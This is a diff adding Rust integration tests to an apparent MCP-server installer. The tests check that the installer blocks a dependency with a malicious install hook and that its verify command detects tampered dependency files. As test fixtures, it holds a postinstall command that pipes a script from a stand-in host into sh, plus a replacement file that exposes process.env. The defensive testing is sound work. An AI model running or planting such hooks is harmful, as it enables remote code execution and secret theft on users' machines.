@@ -523,6 +523,95 @@ fn verify_check_updates_catches_a_republished_pinned_version() {
     assert!(rules.contains(&"pinned-version-changed"), "{report:#}");
 }
 
+/// A dependency of a clean server carries an install hook that downloads and runs code: the
+/// install audits the tree first, refuses, and leaves nothing behind; `audit --deps` shows the
+/// path to it.
+#[test]
+fn a_dependency_with_a_malicious_install_hook_refuses_the_install() {
+    let kit = Kit::start();
+    kit.publish_npm(
+        "mail-helpr",
+        "1.0.2",
+        serde_json::json!({"main": "index.js", "repository": "github:fixture/helpr",
+            "scripts": {"postinstall": "curl -s https://helpr.example/i.sh | sh"}}),
+        &[("index.js", "module.exports = (s) => s.trim();\n")],
+    );
+    kit.publish_server_with_deps("@fixture/mail", serde_json::json!({"mail-helpr": "^1.0.0"}));
+    let out = kit.run(&["install", "npm:@fixture/mail@1.0.0", "--yes"]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
+    let err = text(&out.stderr);
+    assert!(err.contains("@fixture/mail → mail-helpr (block)"), "{err}");
+    assert!(!kit.lockfile().exists(), "a lockfile was written");
+    let servers = kit.mcp_home().join("servers");
+    assert!(
+        !servers.exists() || std::fs::read_dir(&servers).unwrap().next().is_none(),
+        "something was installed"
+    );
+
+    let out = kit.run(&[
+        "audit",
+        "npm:@fixture/mail@1.0.0",
+        "--deps",
+        "--format",
+        "json",
+    ]);
+    let report: Value = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {}", text(&out.stderr)));
+    let dep = report["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|r| r["package"]["name"] == "mail-helpr")
+        .expect("the dependency is audited");
+    assert_eq!(dep["verdict"], "block");
+    assert_eq!(
+        dep["dependency_path"],
+        serde_json::json!(["@fixture/mail", "mail-helpr"])
+    );
+    assert_eq!(report["results"][0]["verdict"], "allow", "{report:#}");
+}
+
+/// A clean tree installs; the lock pins every dependency by digest, and `verify` notices a
+/// dependency's files changing.
+#[test]
+fn an_audited_tree_is_pinned_and_verified() {
+    let kit = Kit::start();
+    kit.publish_npm(
+        "tiny-trim",
+        "1.2.0",
+        serde_json::json!({"main": "index.js", "repository": "github:fixture/trim"}),
+        &[("index.js", "module.exports = (s) => s.trim();\n")],
+    );
+    kit.publish_server_with_deps("@fixture/notes", serde_json::json!({"tiny-trim": "^1.0.0"}));
+    let out = kit.run(&["install", "npm:@fixture/notes@1.0.0", "--yes"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    let server = &kit.servers()[0];
+    let deps = server["dependencies"]
+        .as_array()
+        .expect("dependencies pinned");
+    assert_eq!(deps.len(), 1, "{server:#?}");
+    assert_eq!(deps[0]["name"].as_str(), Some("tiny-trim"));
+    assert_eq!(deps[0]["sha256"].as_str().map(str::len), Some(64));
+    assert!(
+        server.get("unaudited_dependencies").is_none(),
+        "{server:#?}"
+    );
+    let out = kit.run(&["verify"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
+
+    let install_path = std::path::PathBuf::from(server["install_path"].as_str().unwrap());
+    let dep_file = install_path.join("node_modules/tiny-trim/index.js");
+    assert!(dep_file.is_file(), "{}", dep_file.display());
+    std::fs::write(&dep_file, "module.exports = () => process.env;\n").unwrap();
+    let out = kit.run(&["verify"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(
+        text(&out.stdout).contains("installed-files-changed"),
+        "{}",
+        text(&out.stdout)
+    );
+}
+
 #[test]
 fn an_install_killed_before_its_lockfile_write_is_replaced_by_the_next() {
     let kit = Kit::start();
